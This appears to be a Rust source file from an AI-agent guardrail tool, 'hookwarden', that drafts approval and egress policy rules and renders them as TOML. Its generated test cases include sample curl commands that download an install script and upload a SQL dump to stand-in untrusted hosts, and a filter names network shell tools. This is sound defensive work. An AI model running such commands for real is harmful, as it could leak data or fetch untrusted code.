                &format!("MCP server `{name}` reading or changing a data store the agent should not query freely.{auto}"),
                &format!("every tool of MCP server `{name}`"),
                "mcp_server; narrow it to writes with an `input` condition on the query argument when you review",
                Boundary::ToolRequest,
                70,
                &format!("Queries through `{name}` need approval. Show the query to the user first."),
                Condition {
                    mcp_server: one(name),
                    ..Condition::default()
                },
                evidence.clone(),
                vec![t],
            );
        }
        if s.labels.contains(&Capability::DeploymentInfra) {
            let id = format!("draft.deploy.{slug}");
            let change = s
                .tools
                .iter()
                .find(|t| !is_read_tool(t))
                .cloned()
                .unwrap_or_else(|| "apply".into());
            let read = s.tools.iter().find(|t| is_read_tool(t)).cloned();
            let mut tests = Vec::new();
            let mut t = test(&format!("{name}: {change}"));
            t.tool = Some(tool_name(&change));
            t.tool_input = Some(toml::Value::Table(toml::map::Map::new()));
            t.fires = vec![id.clone()];
            tests.push(t);
            if let Some(r) = &read {
                let mut t = test(&format!("{name}: {r} reads"));
                t.tool = Some(tool_name(r));
                t.tool_input = Some(toml::Value::Table(toml::map::Map::new()));
                t.not_fires = vec![id.clone()];
                tests.push(t);
            }
            if let Some(c) = b.control(
                &id,
                "deploy_mcp",
                &format!("MCP server `{name}` changing deployments or cloud resources.{auto}"),
                &format!("tools of MCP server `{name}` except reads (get, list, describe, logs)"),
                "mcp_server, unless the tool name is a read",
                Boundary::ToolRequest,
                80,
                &format!(
                    "Changes through `{name}` need approval. Describe the change and ask the user."
                ),
                Condition {
                    mcp_server: one(name),
                    ..Condition::default()
                },
                evidence.clone(),
                tests,
            ) {
                c.unless = Some(Condition {
                    mcp_tool: many(READ_TOOLS),
                    ..Condition::default()
                });
                c.unless_note =
                    Some("read-only tools (get, list, describe, logs) are exempt".into());
            }
        }
        // A deployment server already has its control; this is for code runners and vaults.
        if (s.labels.contains(&Capability::ExecutesCode)
            || s.labels.contains(&Capability::SecretsAccess))
            && !s.labels.contains(&Capability::DeploymentInfra)
        {
            let id = format!("draft.exec.{slug}");
            let tool = s
                .tools
                .iter()
                .find(|t| !is_read_tool(t))
                .cloned()
                .unwrap_or_else(|| "run".into());
            let mut t = test(&format!("{name}: {tool}"));
            t.tool = Some(tool_name(&tool));
            t.tool_input = Some(toml::Value::Table(toml::map::Map::new()));
            t.fires = vec![id.clone()];
            b.control(
                &id,
                "exec_mcp",
                &format!("MCP server `{name}` running code or reaching secrets outside the runtime's own sandbox.{auto}"),
                &format!("every tool of MCP server `{name}`"),
                "mcp_server",
                Boundary::ToolRequest,
                70,
                &format!("Tools of `{name}` run code or read secrets outside the sandbox; they need approval."),
                Condition {
                    mcp_server: one(name),
                    ..Condition::default()
                },
                evidence.clone(),
                vec![t],
            );
        }
    }
}

const READ_TOOLS: &[&str] = &[
    "*get*",
    "*list*",
    "*describe*",
    "*logs*",
    "*read*",
    "*search*",
];

fn is_read_tool(t: &str) -> bool {
    READ_TOOLS
        .iter()
        .any(|g| crate::policy::glob::matches(g, t))
}

fn egress_controls(b: &mut Builder, ev: &Evaluation) {
    let mut evidence: Vec<String> = ev.observed.hosts.iter().map(|c| c.id.clone()).collect();
    if b.input.context.is_some_and(|c| !c.trusted.hosts.is_empty()) {
        evidence.push("context:trusted.hosts".into());
    }
    evidence.extend(
        ev.observed
            .commands
            .iter()
            .filter(|c| {
                matches!(
                    c.name.split(' ').next(),
                    Some("curl" | "wget" | "nc" | "ncat" | "scp" | "rsync" | "sftp")
                )
            })
            .map(|c| c.id.clone()),
    );
    evidence.extend(
        ev.observed
            .tools
            .iter()
            .filter(|t| {
                crate::event::classify_tool(&t.name).kind == crate::event::ToolKind::WebFetch
            })
            .map(|t| t.id.clone()),
    );
    if evidence.is_empty() {
        return;
    }
    // Always defined, so a reviewer adds hosts in one place; empty means no host is trusted.
    b.lists.entry("trusted_hosts".into()).or_default();
    let trusted_host = b.lists.get("trusted_hosts").and_then(|l| {
        l.iter()
            .find(|h| !h.contains('*') && !h.contains('{'))
            .cloned()
    });

    let mut tests = Vec::new();
    let mut t = test("download from an untrusted host");
    t.command = Some("curl -sSL https://get.untrusted-example.net/install.sh -o install.sh".into());
    t.fires = vec!["draft.net.egress".into()];
    tests.push(t);
    let mut t = test("web fetch from an untrusted host");
    t.tool = Some("WebFetch".into());
    let mut input = toml::map::Map::new();
    input.insert(
        "url".into(),
        toml::Value::String("https://blog.untrusted-example.net/post".into()),
    );
    t.tool_input = Some(toml::Value::Table(input));
    t.fires = vec!["draft.net.egress".into()];
    tests.push(t);
    if let Some(h) = &trusted_host {
        let mut t = test(&format!("trusted host {h}"));
        t.command = Some(format!("curl -s https://{h}/"));
        t.not_fires = vec!["draft.net.egress".into()];
        tests.push(t);
        let mut t = test(&format!("web fetch from trusted {h}"));
        t.tool = Some("WebFetch".into());
        let mut input = toml::map::Map::new();
        input.insert(
            "url".into(),
            toml::Value::String(format!("https://{h}/docs")),
        );
        t.tool_input = Some(toml::Value::Table(input));
        t.not_fires = vec!["draft.net.egress".into()];
        tests.push(t);
    }
    if let Some(c) = b.control(
        "draft.net.egress",
        "egress",
        "Downloads and web fetches from hosts the use case does not trust: code to run, or prompt injection, coming in.",
        "shell network clients (curl, wget, scp, rsync, nc, git clone, ...) and web fetch tools",
        "a `net.download` or `net.fetch` flag names a host outside the list `trusted_hosts`",
        Boundary::ToolRequest,
        40,
        "This host is not in the use case's trusted destinations. Ask the user, or use a trusted source.",
        Condition {
            flag: many(&["net.download", "net.fetch"]),
            hosts_outside: one("@trusted_hosts"),
            ..Condition::default()
        },
        evidence.clone(),
        tests,
    ) {
        c.notes.push("add hosts to `trusted_hosts` to allow them; an empty list trusts no host".into());
        c.notes.push("the default policy's egress rules test its own `allowed_hosts` (package registries, code hosts); a host trusted here but not there still meets those rules".into());
    }

    let mut t = test("upload to an untrusted host");
    t.command = Some(
        "curl -X POST --data-binary @dump.sql https://paste.untrusted-example.net/upload".into(),
    );
    t.fires = vec!["draft.net.upload".into()];
    let mut tests = vec![t];
    if let Some(h) = &trusted_host {
        let mut t = test(&format!("upload to trusted {h}"));
        t.command = Some(format!(
            "curl -X POST -d @refund.json https://{h}/v1/refunds"
        ));
        t.not_fires = vec!["draft.net.upload".into()];
        tests.push(t);
    }
    b.control(
        "draft.net.upload",
        "egress_upload",
        "Data leaving the machine: files or stdin sent to hosts the use case does not trust.",
        "shell network clients sending a file, form or stdin (curl -d/-F/-T, scp, rsync, nc, ...)",
        "a `net.upload` flag names a host outside the list `trusted_hosts`",
        Boundary::ToolRequest,
        70,
        "Sending data to this host is not allowed by the reviewed policy. Ask the user before sending data out.",
        Condition {
            flag: one("net.upload"),
            hosts_outside: one("@trusted_hosts"),
            ..Condition::default()
        },
        evidence,
        tests,
    );
}

fn git_controls(b: &mut Builder, ev: &Evaluation) {
    let evidence: Vec<String> = ev
        .observed
        .commands
        .iter()
        .filter(|c| c.name == "git push")
        .map(|c| c.id.clone())
        .collect();
    let mut t = test("git push");
    t.command = Some("git push origin main".into());
    t.fires = vec!["draft.git.push".into()];
    let mut t2 = test("git status");
    t2.command = Some("git status".into());
    t2.not_fires = vec!["draft.git.push".into()];
    b.control(
        "draft.git.push",
        "git_push",
        "Agent pushes publishing unreviewed commits to the shared remote (seen in the recorded sessions).",
        "shell tools: git push",
        "program git, subcommand push",
        Boundary::ToolRequest,
        40,
        "Pushing is reviewed in this use case. Commit locally and tell the user the branch is ready.",
        Condition {
            program: one("git"),
            subcommand: one("push"),
            ..Condition::default()
        },
        evidence,
        vec![t, t2],
    );
}

fn apply_exceptions(b: &mut Builder) {
    let Some(ctx) = b.input.context else { return };
    let path = b
        .input
        .context_path
        .clone()
        .unwrap_or_else(|| "context".into());
    for (i, e) in ctx.exceptions.iter().enumerate() {
        let targets: Vec<usize> = b
            .controls
            .iter()
            .enumerate()
            .filter(|(_, c)| c.id == e.control || c.family == e.control)
            .map(|(i, _)| i)
            .collect();
        if targets.is_empty() {
            b.warnings.push(format!(
                "{path}: exception #{} names `{}`, which is not a drafted control or family; ignored",
                i + 1,
                e.control
            ));
            continue;
        }
        for t in targets {
            let c = &mut b.controls[t];
            if c.unless.is_some() {
                b.warnings.push(format!(
                    "{path}: exception #{} for `{}` replaces the drafted exception ({}); a rule has one `unless`",
                    i + 1,
                    c.id,
                    c.unless_note.clone().unwrap_or_default()
                ));
            }
            c.unless = Some(e.unless.clone());
            c.unless_note = Some(format!("business exception: {}", e.reason));
            c.evidence.push(format!("context:exception[{}]", i + 1));
            // An MCP tool exception is easy to exercise: its first tool must pass.
            if let (Some(server), Some(tools)) =
                (c.when.mcp_server.as_ref(), e.unless.mcp_tool.as_ref())
            {
                if let (Some(server), Some(tool)) =
                    (server.as_slice().first(), tools.as_slice().first())
                {
                    let tool = tool.replace('*', "x");
                    let mut t = test(&format!("exception: {server} {tool}"));
                    t.tool = Some(format!("mcp__{server}__{tool}"));
                    t.tool_input = Some(toml::Value::Table(toml::map::Map::new()));
                    t.not_fires = vec![c.id.clone()];
                    c.tests.push(t);
                }
            }
        }
    }
}

// ---------------------------------------------------------------------------------------
// Rendering

fn key(k: &str) -> String {
    if !k.is_empty()
        && k.chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
    {
        k.to_string()
    } else {
        toml::Value::String(k.to_string()).to_string()
    }
}

/// A TOML value on one line (inline tables), as a reviewer reads conditions best.
fn inline(v: &toml::Value) -> String {
    match v {
        toml::Value::Table(t) => {
            if t.is_empty() {
                return "{}".into();
            }
            let parts: Vec<String> = t
                .iter()
                .map(|(k, v)| format!("{} = {}", key(k), inline(v)))
                .collect();
            format!("{{ {} }}", parts.join(", "))
        }
        toml::Value::Array(a) => {
            let parts: Vec<String> = a.iter().map(inline).collect();
            format!("[{}]", parts.join(", "))
        }
        other => other.to_string(),
    }
}

fn inline_of<T: serde::Serialize>(v: &T) -> String {
    toml::Value::try_from(v)
        .map(|v| inline(&v))
        .unwrap_or_else(|_| "{}".into())
}

fn q(s: &str) -> String {
    toml::Value::String(s.to_string()).to_string()
}

fn timing(b: Boundary) -> &'static str {
    match b {
        Boundary::ToolRequest => "before the action (tool_request)",
        Boundary::ToolOutput => "after tool output, before the model sees it (tool_output)",
        Boundary::FinalResponse => "before the final response (final_response)",
        Boundary::Prompt => "before the prompt reaches the model (prompt)",
        Boundary::Other => "other",
    }
}

/// How a runtime honours an effect at a boundary: the coverage `policy compile` reports, from
/// the runtime's profile (level, and how or why).
pub fn coverage(runtime: &str, boundary: Boundary, effect: Effect) -> (Level, String) {
    match crate::runtime::coverage::target(runtime) {
        Some(t) => crate::runtime::coverage::assess(t.caps, boundary, effect),
        None => (
            Level::NotEnforceable,
            format!("hookwarden knows no runtime `{runtime}`"),
        ),
    }
}

fn target_runtimes(ev: &Evaluation) -> Vec<(String, bool)> {
    let mut out: BTreeMap<String, bool> = BTreeMap::new();
    for r in &ev.inventory.runtimes {
        let e = out.entry(r.runtime.clone()).or_insert(false);
        *e |= r.hookwarden_wired;
    }
    if out.is_empty() {
        for r in ["claude", "codex", "gemini"] {
            out.insert(r.into(), false);
        }
    }
    out.into_iter().collect()
}

fn coverage_line(c: &Control, runtimes: &[(String, bool)]) -> String {
    runtimes
        .iter()
        .map(|(r, wired)| {
            let (level, _) = coverage(r, c.boundary, c.effect);
            if *wired {
                format!("{r}={level}")
            } else {
                format!("{r}={level} once wired (hookwarden not installed)")
            }
        })
        .collect::<Vec<_>>()
        .join("; ")
}

fn render(
    input: &DraftInput,
    controls: &[Control],
    lists: &BTreeMap<String, Vec<String>>,
    ev: &Evaluation,
) -> String {
    let mut o = String::new();
    let runtimes = target_runtimes(ev);
    let repo_name = Path::new(&ev.repo)
        .file_name()
        .map(|n| n.to_string_lossy().to_string())
        .unwrap_or_else(|| "repo".into());
    let ctx = input.context;
    let mut source = format!("evaluation {}", input.evaluation_path);
    if let Some(p) = &input.context_path {
        let _ = write!(source, " + context {p}");
    }
    let _ = writeln!(
        o,
        "# DRAFT hookwarden policy for `{repo_name}`, generated by `hookwarden policy draft`"
    );
    let _ = writeln!(
        o,
        "# from {source}, risk class {}{}.",
        input.risk.as_str(),
        input
            .preset
            .map(|p| format!(", preset `{}`", p.preset.name))
            .unwrap_or_default()
    );
    let _ = writeln!(o, "#");
    let _ = writeln!(
        o,
        "# This file is the review point. For each control below, check the evidence it cites"
    );
    let _ = writeln!(
        o,
        "# (ids from the evaluation report), then: change `effect`, tighten `when`, add an"
    );
    let _ = writeln!(
        o,
        "# exception with `unless`, narrow it with `activation`, or switch it off with"
    );
    let _ = writeln!(
        o,
        "# `disabled = true` and say why in its `[rule.lineage] note`. Keep `lineage`: it is"
    );
    let _ = writeln!(
        o,
        "# shown by `hookwarden check` and in the audit log when the control fires."
    );
    let _ = writeln!(o, "# Then: policy validate -> policy test -> policy replay -> policy compile -> policy deploy");
    let _ = writeln!(
        o,
        "# (README: From evaluation to a deployed policy). Coverage per runtime says how each runtime can enforce an effect."
    );
    let unwired: Vec<&String> = runtimes
        .iter()
        .filter(|(_, w)| !w)
        .map(|(r, _)| r)
        .collect();
    if !unwired.is_empty() {
        let _ = writeln!(
            o,
            "#\n# NOTE: hookwarden is not wired into {}: no control applies there until\n# `hookwarden install --runtime <name>` (see the evaluation's priorities).",
            unwired.iter().map(|s| s.as_str()).collect::<Vec<_>>().join(", ")
        );
    }
    if let Some(c) = ctx {
        if !c.expected_behaviour.is_empty() {
            let _ = writeln!(o, "#\n# Expected behaviour (use-case context):");
            for l in &c.expected_behaviour {
                let _ = writeln!(o, "#   - {}", l.replace('\n', " "));
            }
        }
    }
    if !ev.observed.hosts.is_empty() {
        let hosts: Vec<String> = ev
            .observed
            .hosts
            .iter()
            .take(20)
            .map(|h| h.name.clone())
            .collect();
        let _ = writeln!(o, "#\n# Hosts contacted in recorded sessions (trusted only if listed in `trusted_hosts`):\n#   {}", hosts.join(", "));
    }
    let _ = writeln!(o);
    let _ = writeln!(o, "[policy]");
    let _ = writeln!(o, "name = {}", q(&format!("{repo_name}-draft")));
    let use_case = ctx
        .and_then(|c| c.name.clone())
        .unwrap_or_else(|| "coding-agent".into());
    let _ = writeln!(o, "use_case = {}", q(&use_case));
    let _ = writeln!(o, "version = \"0.1.0\"");
    let _ = writeln!(o, "status = \"draft\"");
    if let Some(m) = input.preset.and_then(|p| p.preset.mode) {
        let _ = writeln!(
            o,
            "mode = {}",
            q(if m == Mode::Audit { "audit" } else { "enforce" })
        );
    }
    let desc = ctx
        .and_then(|c| c.description.clone())
        .unwrap_or_else(|| format!("Candidate controls from the evaluation of {repo_name}; every control cites its evidence."));
    let _ = writeln!(o, "description = {}", q(&desc));
    let _ = writeln!(o, "\n[policy.metadata]");
    let _ = writeln!(
        o,
        "generated_by = {}",
        q(&format!(
            "hookwarden {} policy draft",
            env!("CARGO_PKG_VERSION")
        ))
    );
    let _ = writeln!(o, "evaluation = {}", q(&input.evaluation_path));
    let _ = writeln!(o, "risk_class = {}", q(input.risk.as_str()));
    if let Some(p) = input.preset {
        let _ = writeln!(o, "preset = {}", q(&p.preset.name));
    }
    let _ = writeln!(
        o,
        "target_runtimes = {}",
        inline_of(&runtimes.iter().map(|(r, _)| r.clone()).collect::<Vec<_>>())
    );
    if !lists.is_empty() {
        let _ = writeln!(o, "\n[lists]");
        for (name, items) in lists {
            let _ = writeln!(o, "{} = {}", key(name), inline_of(items));
        }
    }
    let approver = input.preset.and_then(|p| p.preset.approver_role.clone());
    for c in controls {
        let _ = writeln!(o, "\n# {}", "-".repeat(88));
        let _ = writeln!(o, "# {}", c.id);
        let _ = writeln!(o, "#   risk:       {}", c.addresses);
        let _ = writeln!(o, "#   applies to: {}", c.applies_to);
        let _ = writeln!(o, "#   check:      {}", c.check);
        let _ = writeln!(
            o,
            "#   effect:     {} (family `{}`, risk class {})",
            c.effect,
            c.family,
            input.risk.as_str()
        );
        let act = match &c.activation {
            Some(a) => format!("as in [rule.activation] (context): {}", inline_of(a)),
            None => "always".into(),
        };
        let _ = writeln!(o, "#   activation: {act}");
        let _ = writeln!(o, "#   timing:     {}", timing(c.boundary));
        for (r, wired) in &runtimes {
            let (level, how) = coverage(r, c.boundary, c.effect);
            let _ = writeln!(
                o,
                "#   coverage:   {r}: {level} ({how}){}",
                if *wired {
                    ""
                } else {
                    " (once hookwarden is wired)"
                }
            );
        }
        if let Some(n) = &c.unless_note {
            let _ = writeln!(o, "#   exception:  {n}");
        }
        for n in &c.notes {
            let _ = writeln!(o, "#   note:       {n}");
        }
        let _ = writeln!(o, "[[rule]]");
        let _ = writeln!(o, "id = {}", q(&c.id));
        let _ = writeln!(o, "description = {}", q(&c.description));
        let _ = writeln!(o, "boundary = {}", q(c.boundary.as_str()));
        let _ = writeln!(o, "effect = {}", q(c.effect.as_str()));
        let _ = writeln!(o, "risk = {}", c.risk);
        let _ = writeln!(o, "reason = {}", q(&c.reason));
        if c.effect == Effect::Ask {
            if let Some(a) = &approver {
                let _ = writeln!(o, "approver_role = {}", q(a));
            }
        }
        let _ = writeln!(o, "when = {}", inline_of(&c.when));
        if let Some(u) = &c.unless {
            let _ = writeln!(o, "unless = {}", inline_of(u));
        }
        if let Some(a) = &c.activation {
            let _ = writeln!(o, "activation = {}", inline_of(a));
        }
        let lineage = Lineage {
            evidence: c.evidence.clone(),
            reviewer: None,
            ticket: None,
            source: Some(source.clone()),
            note: Some(format!(
                "risk class {}; timing {}; coverage: {}",
                input.risk.as_str(),
                c.boundary.as_str(),
                coverage_line(c, &runtimes)
            )),
        };
        let _ = writeln!(o, "\n[rule.lineage]");
        let _ = writeln!(o, "evidence = {}", inline_of(&lineage.evidence));
        let _ = writeln!(o, "source = {}", q(lineage.source.as_deref().unwrap_or("")));
        let _ = writeln!(o, "note = {}", q(lineage.note.as_deref().unwrap_or("")));
        let _ = writeln!(o, "# reviewer = \"\"   # who approved this control");
        let _ = writeln!(o, "# ticket = \"\"");
        for t in &c.tests {
            let _ = writeln!(o, "\n[[test]]");
            if let Ok(toml::Value::Table(tbl)) = toml::Value::try_from(t) {
                // Name first, expect and fire lists last: reads as "given ..., expect ...".
                let order = |k: &str| match k {
                    "name" => 0,
                    "content" | "tool_input" => 2,
                    "expect" => 3,
                    "fires" | "not_fires" => 4,
                    _ => 1,
                };
                let mut kv: Vec<(&String, &toml::Value)> = tbl.iter().collect();
                kv.sort_by_key(|(k, _)| order(k));
                for (k, v) in kv {
                    let _ = writeln!(o, "{} = {}", key(k), inline(v));
                }
            }
        }
    }
    o
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn samples_match_their_globs() {
        for g in ["**/data/customers/**", "**/config/production.yaml", "**.tf"] {
            let s = format!("/home/dev/project/{}", sample_for(g));
            assert!(crate::policy::glob::matches(g, &s), "{g} vs {s}");
        }
    }
}
